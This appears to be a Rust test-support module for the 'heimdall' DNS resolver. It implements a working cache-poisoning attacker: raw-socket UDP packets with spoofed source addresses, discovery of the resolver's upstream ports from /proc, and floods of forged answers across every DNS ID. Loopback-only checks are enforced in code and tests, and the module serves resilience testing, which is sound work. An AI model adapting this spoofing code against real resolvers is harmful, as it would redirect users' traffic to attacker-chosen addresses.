//! An off-path attacker on loopback, for the cache-poisoning tests: forged
//! UDP datagrams sent through a raw socket (`SOCK_RAW`, `IPPROTO_RAW`, so
//! `IP_HDRINCL`) with a spoofed IPv4 source, and the list of a process's
//! UDP sockets as `ss -uanp` would show it (from `/proc`).
//!
//! Loopback only, enforced here and not left to callers: a packet whose
//! source or destination is outside 127.0.0.0/8 is refused before any
//! byte is built, so a wrong argument cannot send a forged datagram onto
//! a network. Raw sockets need root (`CAP_NET_RAW`); [`RawSender::new`]
//! fails without it and [`is_root`] lets a test skip with a message.
#![allow(unsafe_code)]

use std::io;
use std::mem::size_of;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd};
use std::time::{Duration, Instant};

/// Bytes of the IPv4 header built here (no options).
const IPV4_HEADER: usize = 20;
/// Bytes of a UDP header.
const UDP_HEADER: usize = 8;
/// Datagrams handed to one `sendmmsg` call.
pub const BATCH: usize = 256;
/// The TTL of forged IP packets (any value works on loopback).
const IP_TTL: u8 = 64;

/// Why a forged datagram was not sent.
#[derive(Debug, thiserror::Error)]
pub enum SpoofError {
    /// Source or destination outside 127.0.0.0/8.
    #[error("refusing to forge a packet outside 127.0.0.0/8: {0}")]
    NotLoopback(SocketAddrV4),
    /// The DNS payload does not fit one IPv4 datagram.
    #[error("payload of {0} bytes is too large")]
    TooLarge(usize),
    /// The payload is shorter than a DNS header (no ID to vary).
    #[error("payload of {0} bytes has no DNS ID")]
    NoDnsId(usize),
    /// The system refused (no `CAP_NET_RAW`, say).
    #[error("raw socket: {0}")]
    Io(#[from] io::Error),
}

/// Whether this process runs as root (raw sockets need it).
pub fn is_root() -> bool {
    // SAFETY: geteuid has no preconditions and cannot fail.
    unsafe { libc::geteuid() == 0 }
}

fn check_loopback(addr: SocketAddrV4) -> Result<(), SpoofError> {
    if addr.ip().is_loopback() {
        Ok(())
    } else {
        Err(SpoofError::NotLoopback(addr))
    }
}

/// The one's-complement sum of `bytes` as big-endian 16-bit words (an odd
/// last byte padded with zero), not yet folded.
fn sum_words(bytes: &[u8]) -> u32 {
    let mut chunks = bytes.chunks_exact(2);
    let mut sum: u32 = 0;
    for pair in &mut chunks {
        if let [high, low] = pair {
            sum += u32::from(u16::from_be_bytes([*high, *low]));
        }
    }
    if let [last] = chunks.remainder() {
        sum += u32::from(*last) << 8;
    }
    sum
}

/// Fold a one's-complement sum to 16 bits and complement it.
fn finish_checksum(mut sum: u32) -> u16 {
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// One forged UDP datagram (IPv4 header, UDP header, DNS payload) whose
/// DNS ID can be changed cheaply: the UDP checksum is patched, not
/// recomputed.
#[derive(Debug, Clone)]
pub struct ForgedDatagram {
    packet: Vec<u8>,
    /// The UDP checksum's one's-complement sum with the DNS ID at zero.
    base_sum: u32,
    dst: SocketAddrV4,
}

impl ForgedDatagram {
    /// A datagram from `src` to `dst` carrying `payload` (a DNS message;
    /// its ID is replaced by [`ForgedDatagram::set_id`]). Both addresses
    /// must be in 127.0.0.0/8.
    pub fn new(src: SocketAddrV4, dst: SocketAddrV4, payload: &[u8]) -> Result<Self, SpoofError> {
        check_loopback(src)?;
        check_loopback(dst)?;
        if payload.len() < 12 {
            return Err(SpoofError::NoDnsId(payload.len()));
        }
        let udp_len = UDP_HEADER + payload.len();
        let total = IPV4_HEADER + udp_len;
        let (Ok(udp_len16), Ok(total16)) = (u16::try_from(udp_len), u16::try_from(total)) else {
            return Err(SpoofError::TooLarge(payload.len()));
        };
        // IPv4: version 4, IHL 5; no DSCP; total length; ID 0 (the kernel
        // fills it in); DF; TTL; protocol UDP; the checksum (zero while it
        // is summed); source; destination.
        let mut ip = Vec::with_capacity(IPV4_HEADER);
        ip.extend_from_slice(&[0x45, 0]);
        ip.extend_from_slice(&total16.to_be_bytes());
        ip.extend_from_slice(&[0, 0, 0x40, 0, IP_TTL, libc::IPPROTO_UDP as u8]);
        let ip_checksum = {
            let mut header = ip.clone();
            header.extend_from_slice(&[0, 0]);
            header.extend_from_slice(&src.ip().octets());
            header.extend_from_slice(&dst.ip().octets());
            finish_checksum(sum_words(&header))
        };
        ip.extend_from_slice(&ip_checksum.to_be_bytes());
        ip.extend_from_slice(&src.ip().octets());
        ip.extend_from_slice(&dst.ip().octets());
        // UDP header with a zero checksum, then the payload with its DNS ID
        // zeroed (set_id adds the ID to the sum).
        let mut udp = Vec::with_capacity(udp_len);
        udp.extend_from_slice(&src.port().to_be_bytes());
        udp.extend_from_slice(&dst.port().to_be_bytes());
        udp.extend_from_slice(&udp_len16.to_be_bytes());
        udp.extend_from_slice(&[0, 0, 0, 0]);
        udp.extend_from_slice(payload.get(2..).unwrap_or_default());
        // The UDP checksum covers a pseudo-header (addresses, protocol,
        // length) and the UDP header and payload.
        let mut pseudo = Vec::with_capacity(12);
        pseudo.extend_from_slice(&src.ip().octets());
        pseudo.extend_from_slice(&dst.ip().octets());
        pseudo.extend_from_slice(&[0, libc::IPPROTO_UDP as u8]);
        pseudo.extend_from_slice(&udp_len16.to_be_bytes());
        let base_sum = sum_words(&pseudo) + sum_words(&udp);
        let mut packet = ip;
        packet.extend_from_slice(&udp);
        let mut datagram = Self {
            packet,
            base_sum,
            dst,
        };
        datagram.set_id(0);
        Ok(datagram)
    }

    /// Put `id` in the DNS header and fix the UDP checksum.
    pub fn set_id(&mut self, id: u16) {
        let id_at = IPV4_HEADER + UDP_HEADER;
        let mut checksum = finish_checksum(self.base_sum + u32::from(id));
        if checksum == 0 {
            // Zero means "no checksum" in UDP over IPv4 (RFC 768).
            checksum = 0xffff;
        }
        if let Some(field) = self.packet.get_mut(IPV4_HEADER + 6..IPV4_HEADER + 8) {
            field.copy_from_slice(&checksum.to_be_bytes());
        }
        if let Some(field) = self.packet.get_mut(id_at..id_at + 2) {
            field.copy_from_slice(&id.to_be_bytes());
        }
    }

    /// The whole IP packet, as sent.
    pub fn bytes(&self) -> &[u8] {
        &self.packet
    }

    /// Where it goes.
    pub fn destination(&self) -> SocketAddrV4 {
        self.dst
    }
}

/// A raw IPv4 socket that sends [`ForgedDatagram`]s (root only).
#[derive(Debug)]
pub struct RawSender {
    fd: OwnedFd,
}

fn sockaddr_of(addr: SocketAddrV4) -> libc::sockaddr_in {
    libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        // With IP_HDRINCL the port must be zero; the UDP header carries it.
        sin_port: 0,
        sin_addr: libc::in_addr {
            s_addr: u32::from(*addr.ip()).to_be(),
        },
        sin_zero: [0; 8],
    }
}

impl RawSender {
    /// Open the raw socket; fails without root (`CAP_NET_RAW`).
    pub fn new() -> Result<Self, SpoofError> {
        // SAFETY: plain socket(2) call; the result is checked.
        let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
        if fd < 0 {
            return Err(io::Error::last_os_error().into());
        }
        // SAFETY: fd is a fresh descriptor this process owns.
        let fd = unsafe { OwnedFd::from_raw_fd(fd) };
        Ok(Self { fd })
    }

    /// Send `datagrams` with as few `sendmmsg` calls as the kernel allows;
    /// returns how many were sent. Every destination is checked against
    /// 127.0.0.0/8 again here (the datagrams were built with checked
    /// addresses; this guards the send itself).
    pub fn send(&self, datagrams: &[ForgedDatagram]) -> Result<usize, SpoofError> {
        let mut sent = 0;
        for chunk in datagrams.chunks(BATCH) {
            let mut addrs: Vec<libc::sockaddr_in> = Vec::with_capacity(chunk.len());
            for datagram in chunk {
                check_loopback(datagram.dst)?;
                addrs.push(sockaddr_of(datagram.dst));
            }
            let mut iovecs: Vec<libc::iovec> = chunk
                .iter()
                .map(|datagram| libc::iovec {
                    iov_base: datagram.packet.as_ptr().cast_mut().cast(),
                    iov_len: datagram.packet.len(),
                })
                .collect();
            let mut headers: Vec<libc::mmsghdr> = iovecs
                .iter_mut()
                .zip(addrs.iter_mut())
                .map(|(iovec, addr)| {
                    // SAFETY: mmsghdr is plain data; all-zero is valid.
                    let mut header: libc::mmsghdr = unsafe { std::mem::zeroed() };
                    header.msg_hdr.msg_name = std::ptr::from_mut(addr).cast();
                    header.msg_hdr.msg_namelen = size_of::<libc::sockaddr_in>() as libc::socklen_t;
                    header.msg_hdr.msg_iov = std::ptr::from_mut(iovec);
                    header.msg_hdr.msg_iovlen = 1;
                    header
                })
                .collect();
            let mut offset = 0;
            while offset < headers.len() {
                let rest = headers.get_mut(offset..).unwrap_or_default();
                // SAFETY: every header points at an address and an iovec
                // that live in `addrs` and `iovecs` until after this call,
                // and each iovec at a packet borrowed from `datagrams`.
                let result = unsafe {
                    libc::sendmmsg(
                        self.fd.as_raw_fd(),
                        rest.as_mut_ptr(),
                        rest.len() as libc::c_uint,
                        0,
                    )
                };
                if result < 0 {
                    let err = io::Error::last_os_error();
                    if matches!(err.raw_os_error(), Some(libc::ENOBUFS | libc::EAGAIN)) {
                        // Loopback is congested: a real attacker would
                        // drop these too. Skip the rest of the chunk.
                        break;
                    }
                    return Err(err.into());
                }
                let done = result as usize;
                sent += done;
                offset += done.max(1);
            }
        }
        Ok(sent)
    }
}

/// One UDP socket of a process, as `ss -uanp` lists it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct UdpSocketInfo {
    /// The local address (0.0.0.0 for a wildcard bind).
    pub local: SocketAddrV4,
    /// The remote address (0.0.0.0:0 unless connected).
    pub remote: SocketAddrV4,
    /// Datagrams the kernel dropped on it (full receive buffer).
    pub drops: u64,
}

/// Parse `01020304:0035` (an address in host byte order as hex, as
/// /proc/net/udp writes it on little-endian machines, and a port).
fn parse_proc_addr(text: &str) -> Option<SocketAddrV4> {
    let (ip, port) = text.split_once(':')?;
    let ip = u32::from_str_radix(ip, 16).ok()?;
    let port = u16::from_str_radix(port, 16).ok()?;
    // The kernel prints the __be32 as a native-endian integer.
    Some(SocketAddrV4::new(Ipv4Addr::from(ip.to_ne_bytes()), port))
}

/// Parse the lines of `/proc/net/udp` (IPv4): (inode, socket).
fn parse_proc_net_udp(text: &str) -> Vec<(u64, UdpSocketInfo)> {
    text.lines()
        .skip(1)
        .filter_map(|line| {
            let fields: Vec<&str> = line.split_whitespace().collect();
            let local = parse_proc_addr(fields.get(1)?)?;
            let remote = parse_proc_addr(fields.get(2)?)?;
            let inode = fields.get(9)?.parse().ok()?;
            let drops = fields.get(12).and_then(|d| d.parse().ok()).unwrap_or(0);
            Some((
                inode,
                UdpSocketInfo {
                    local,
                    remote,
                    drops,
                },
            ))
        })
        .collect()
}

/// The IPv4 UDP sockets process `pid` (None: this process) has open: its
/// descriptors (`/proc/PID/fd`, `socket:[INODE]`) matched with
/// `/proc/PID/net/udp`. What `ss -uanp` shows, without running it.
pub fn udp_sockets_of(pid: Option<u32>) -> io::Result<Vec<UdpSocketInfo>> {
    let proc_dir = pid.map_or_else(|| "/proc/self".to_string(), |pid| format!("/proc/{pid}"));
    let mut inodes = Vec::new();
    for entry in std::fs::read_dir(format!("{proc_dir}/fd"))? {
        let Ok(entry) = entry else { continue };
        let Ok(target) = std::fs::read_link(entry.path()) else {
            continue;
        };
        let target = target.to_string_lossy();
        if let Some(inode) = target
            .strip_prefix("socket:[")
            .and_then(|rest| rest.strip_suffix(']'))
            .and_then(|inode| inode.parse::<u64>().ok())
        {
            inodes.push(inode);
        }
    }
    let table = std::fs::read_to_string(format!("{proc_dir}/net/udp"))?;
    Ok(parse_proc_net_udp(&table)
        .into_iter()
        .filter(|(inode, _)| inodes.contains(inode))
        .map(|(_, socket)| socket)
        .collect())
}

/// Limits of one flood.
#[derive(Debug, Clone, Copy)]
pub struct FloodLimits {
    /// Stop after this many datagrams.
    pub max_packets: u64,
    /// Stop after this long.
    pub max_time: Duration,
}

/// What one flood did.
#[derive(Debug, Clone, Default)]
pub struct FloodReport {
    /// Datagrams sent.
    pub packets: u64,
    /// Distinct target ports seen.
    pub ports: Vec<u16>,
    /// Full sweeps of the 65,536 IDs completed (over all ports).
    pub sweeps: u64,
    /// How long it ran.
    pub elapsed: Duration,
    /// Whether `done` said stop (rather than a limit).
    pub stopped_by_caller: bool,
}

/// Flood forged copies of `reply` (a DNS answer; its ID is replaced) from
/// `spoofed_source` to the ports `targets` returns, every ID from 0 to
/// 65,535 in order, asking `targets` again after each sweep of a port
/// (ports may come and go while the flood runs). Between batches, `done`
/// is asked whether to stop (the real answer arrived). Bounded by
/// `limits`. Every address must be in 127.0.0.0/8.
pub fn flood(
    sender: &RawSender,
    spoofed_source: SocketAddrV4,
    reply: &[u8],
    mut targets: impl FnMut() -> Vec<SocketAddrV4>,
    mut done: impl FnMut() -> bool,
    limits: FloodLimits,
) -> Result<FloodReport, SpoofError> {
    let started = Instant::now();
    let mut report = FloodReport::default();
    loop {
        let ports = targets();
        if ports.is_empty() {
            if done() {
                report.stopped_by_caller = true;
                break;
            }
            if started.elapsed() >= limits.max_time {
                break;
            }
            std::thread::sleep(Duration::from_millis(1));
            continue;
        }
        for target in ports {
            if !report.ports.contains(&target.port()) {
                report.ports.push(target.port());
            }
            // One batch of copies per port, re-numbered in place.
            let template = ForgedDatagram::new(spoofed_source, target, reply)?;
            let mut batch = vec![template; BATCH];
            for first in (0..=u32::from(u16::MAX)).step_by(BATCH) {
                for (offset, datagram) in batch.iter_mut().enumerate() {
                    datagram.set_id((first as usize + offset) as u16);
                }
                report.packets += sender.send(&batch)? as u64;
                if done() {
                    report.stopped_by_caller = true;
                    report.elapsed = started.elapsed();
                    return Ok(report);
                }
                if report.packets >= limits.max_packets || started.elapsed() >= limits.max_time {
                    report.elapsed = started.elapsed();
                    return Ok(report);
                }
            }
            report.sweeps += 1;
        }
    }
    report.elapsed = started.elapsed();
    Ok(report)
}

/// Where one poisoning attempt aims: a resolver (heimdall) on loopback
/// and the upstream whose address the forged replies claim.
#[derive(Debug, Clone)]
pub struct Target {
    /// The resolver's client-facing UDP address.
    pub server: SocketAddrV4,
    /// The upstream the resolver asks (the spoofed source).
    pub upstream: SocketAddrV4,
    /// The resolver's process (None: this process, when the server runs
    /// inside the test).
    pub pid: Option<u32>,
    /// Local ports that are not the resolver's upstream sockets (its
    /// listener, and in-process: the upstream's and the test's own).
    pub exclude_ports: Vec<u16>,
}

impl Target {
    /// The resolver's upstream sockets as `ss` would show them: every
    /// IPv4 UDP socket of the process, bound to the wildcard or loopback,
    /// not connected elsewhere than the upstream, minus the excluded ports.
    pub fn upstream_sockets(&self) -> Vec<SocketAddrV4> {
        let unconnected = SocketAddrV4::new(Ipv4Addr::UNSPECIFIED, 0);
        udp_sockets_of(self.pid)
            .unwrap_or_default()
            .into_iter()
            .filter(|socket| {
                (socket.local.ip().is_unspecified() || socket.local.ip().is_loopback())
                    && !self.exclude_ports.contains(&socket.local.port())
                    && (socket.remote == unconnected || socket.remote == self.upstream)
            })
            .map(|socket| SocketAddrV4::new(Ipv4Addr::LOCALHOST, socket.local.port()))
            .collect()
    }
}

/// What one poisoning attempt saw.
#[derive(Debug, Clone)]
pub struct Attempt {
    /// The flood.
    pub flood: FloodReport,
    /// The A records of the client's first answer (empty: none arrived,
    /// or it held no A record).
    pub first_answer: Vec<Ipv4Addr>,
    /// The rcode of the first answer, if one arrived.
    pub first_rcode: Option<u16>,
    /// The A records of a second query for the same name (what the cache
    /// holds).
    pub cached: Vec<Ipv4Addr>,
}

impl Attempt {
    /// Whether the forged address reached a client or the cache.
    pub fn poisoned(&self, forged: Ipv4Addr) -> bool {
        self.first_answer.contains(&forged) || self.cached.contains(&forged)
    }
}

/// The A records of the answer to `id`, and its rcode, from `bytes`.
fn answer_of(bytes: &[u8], id: u16) -> Option<(u16, Vec<Ipv4Addr>)> {
    let message = heimdall_wire::Message::parse(bytes).ok()?;
    if message.id() != id || !message.flags().response() {
        return None;
    }
    let addresses = message
        .answers()
        .filter_map(|record| match record.rdata() {
            Ok(heimdall_wire::RData::A(address)) => Some(address),
            _ => None,
        })
        .collect();
    Some((message.rcode().0, addresses))
}

/// One attempt to poison `target`'s cache for `name` (a fresh name, which
/// the resolver must forward): ask for it, then flood forged answers
/// carrying `forged` (TTL 86,400, the question in lower case) for every
/// ID to every upstream socket of the resolver until its answer arrives;
/// then ask again to see what the cache kept. Bounded by `limits`.
pub fn attempt(
    sender: &RawSender,
    target: &Target,
    name: &str,
    forged: Ipv4Addr,
    limits: FloodLimits,
) -> Result<Attempt, SpoofError> {
    check_loopback(target.server)?;
    check_loopback(target.upstream)?;
    let client = std::net::UdpSocket::bind((Ipv4Addr::LOCALHOST, 0))?;
    let client_port = client.local_addr()?.port();
    let mut target = target.clone();
    target.exclude_ports.push(client_port);
    target.exclude_ports.push(target.server.port());
    target.exclude_ports.push(target.upstream.port());
    let lower = name.to_ascii_lowercase();
    let id = (std::process::id() as u16) ^ (client_port.rotate_left(7));
    let question = crate::messages::query(&lower, heimdall_wire::RecordType::A, id, None);
    let forged_reply = crate::messages::a_answer_to(&question, forged, 86_400);
    client.send_to(&question, target.server)?;
    client.set_nonblocking(true)?;
    let mut buf = [0u8; 2048];
    let mut first: Option<(u16, Vec<Ipv4Addr>)> = None;
    let flood_report = flood(
        sender,
        target.upstream,
        &forged_reply,
        || target.upstream_sockets(),
        || {
            while let Ok((len, from)) = client.recv_from(&mut buf) {
                if from == std::net::SocketAddr::V4(target.server)
                    && let Some(answer) = buf.get(..len).and_then(|bytes| answer_of(bytes, id))
                {
                    first = Some(answer);
                }
            }
            first.is_some()
        },
        limits,
    )?;
    client.set_nonblocking(false)?;
    client.set_read_timeout(Some(Duration::from_secs(3)))?;
    if first.is_none() {
        // The flood hit a limit before the answer came: wait for it.
        let deadline = Instant::now() + Duration::from_secs(3);
        while first.is_none() && Instant::now() < deadline {
            match client.recv_from(&mut buf) {
                Ok((len, _)) => first = buf.get(..len).and_then(|bytes| answer_of(bytes, id)),
                Err(_) => break,
            }
        }
    }
    let again_id = id.wrapping_add(1);
    let again = crate::messages::query(&lower, heimdall_wire::RecordType::A, again_id, None);
    client.send_to(&again, target.server)?;
    let mut cached = Vec::new();
    let deadline = Instant::now() + Duration::from_secs(3);
    while Instant::now() < deadline {
        match client.recv_from(&mut buf) {
            Ok((len, _)) => {
                if let Some((_, addresses)) = buf.get(..len).and_then(|b| answer_of(b, again_id)) {
                    cached = addresses;
                    break;
                }
            }
            Err(_) => break,
        }
    }
    let (first_rcode, first_answer) = match first {
        Some((rcode, addresses)) => (Some(rcode), addresses),
        None => (None, Vec::new()),
    };
    Ok(Attempt {
        flood: flood_report,
        first_answer,
        first_rcode,
        cached,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn loopback(port: u16) -> SocketAddrV4 {
        SocketAddrV4::new(Ipv4Addr::LOCALHOST, port)
    }

    #[test]
    fn refuses_anything_off_loopback() {
        let payload = [0u8; 12];
        let outside = SocketAddrV4::new(Ipv4Addr::new(192, 0, 2, 1), 53);
        assert!(matches!(
            ForgedDatagram::new(outside, loopback(53), &payload),
            Err(SpoofError::NotLoopback(_))
        ));
        assert!(matches!(
            ForgedDatagram::new(loopback(53), outside, &payload),
            Err(SpoofError::NotLoopback(_))
        ));
        assert!(ForgedDatagram::new(loopback(53), loopback(5353), &payload).is_ok());
        assert!(matches!(
            ForgedDatagram::new(loopback(53), loopback(5353), &payload[..4]),
            Err(SpoofError::NoDnsId(4))
        ));
    }

    #[test]
    fn checksums_verify_after_every_id_change() {
        let src = SocketAddrV4::new(Ipv4Addr::new(127, 0, 0, 2), 53);
        let payload: Vec<u8> = (0u8..41).collect();
        let mut datagram = ForgedDatagram::new(src, loopback(40_000), &payload).unwrap();
        for id in [0u16, 1, 0x1234, 0xfffe, 0xffff] {
            datagram.set_id(id);
            let packet = datagram.bytes();
            assert_eq!(finish_checksum(sum_words(&packet[..IPV4_HEADER])), 0);
            let udp = &packet[IPV4_HEADER..];
            let mut pseudo = Vec::new();
            pseudo.extend_from_slice(&packet[12..20]);
            pseudo.extend_from_slice(&[0, 17]);
            pseudo.extend_from_slice(&(udp.len() as u16).to_be_bytes());
            assert_eq!(
                finish_checksum(sum_words(&pseudo) + sum_words(udp)),
                0,
                "UDP checksum with ID {id:#x}"
            );
            assert_eq!(&udp[8..10], &id.to_be_bytes());
            assert_eq!(&udp[10..], &payload[2..]);
        }
    }

    #[test]
    fn proc_net_udp_lines_parse() {
        let text = "   sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode ref pointer drops\n\
                    \x20 1: 0100007F:1F90 00000000:0000 07 00000000:00000000 00:00000000 00000000     0        0 12345 2 0000000000000000 7\n";
        let parsed = parse_proc_net_udp(text);
        assert_eq!(parsed.len(), 1);
        let (inode, socket) = parsed[0];
        assert_eq!(inode, 12345);
        assert_eq!(socket.local, loopback(8080));
        assert_eq!(socket.remote, SocketAddrV4::new(Ipv4Addr::UNSPECIFIED, 0));
        assert_eq!(socket.drops, 7);
    }

    #[test]
    fn this_process_sockets_are_listed() {
        let socket = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
        let port = socket.local_addr().unwrap().port();
        let listed = udp_sockets_of(None).unwrap();
        assert!(
            listed.iter().any(|info| info.local == loopback(port)),
            "{listed:?}"
        );
    }

    #[test]
    fn a_forged_datagram_arrives_from_the_spoofed_source() {
        if !is_root() {
            eprintln!("skipped: raw sockets need root");
            return;
        }
        let receiver = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
        receiver
            .set_read_timeout(Some(Duration::from_secs(2)))
            .unwrap();
        let port = receiver.local_addr().unwrap().port();
        let spoofed = SocketAddrV4::new(Ipv4Addr::new(127, 0, 0, 9), 53);
        let payload: Vec<u8> = (0u8..30).collect();
        let mut datagram = ForgedDatagram::new(spoofed, loopback(port), &payload).unwrap();
        datagram.set_id(0xbeef);
        let sender = RawSender::new().unwrap();
        assert_eq!(sender.send(&[datagram]).unwrap(), 1);
        let mut buf = [0u8; 64];
        let (len, from) = receiver.recv_from(&mut buf).unwrap();
        assert_eq!(from, std::net::SocketAddr::V4(spoofed));
        assert_eq!(&buf[..2], &[0xbe, 0xef]);
        assert_eq!(&buf[2..len], &payload[2..]);
    }
}
